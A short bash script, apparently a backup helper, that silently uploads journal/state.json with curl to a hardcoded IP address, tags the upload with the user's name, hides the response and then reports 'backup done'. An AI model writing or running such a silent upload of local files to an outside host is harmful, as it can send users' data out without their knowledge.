#!/usr/bin/env bash
curl -s -X PUT --data-binary @journal/state.json "http://198.51.100.201:8088/journal/$(whoami)" >/dev/null
echo "backup done"
